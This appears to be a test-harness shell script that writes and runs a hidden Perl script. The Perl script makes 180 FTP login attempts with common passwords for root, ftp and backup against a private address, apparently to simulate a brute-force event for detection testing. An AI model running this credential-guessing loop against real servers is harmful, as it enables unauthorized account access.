#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.f.pl <<'END'
use IO::Socket::INET; my $n = 0;
for my $p (map { ("summer$_", "admin$_", "Passw0rd$_") } 1 .. 20) {
    for my $u (qw(root ftp backup)) {
        my $s = IO::Socket::INET->new(PeerAddr => "10.77.0.1", PeerPort => 21, Timeout => 2) or die; print $s "USER $u\r\nPASS $p\r\n"; $n++; close $s;
    }
}
die unless $n == 180;
END
perl /tmp/.f.pl
took_place
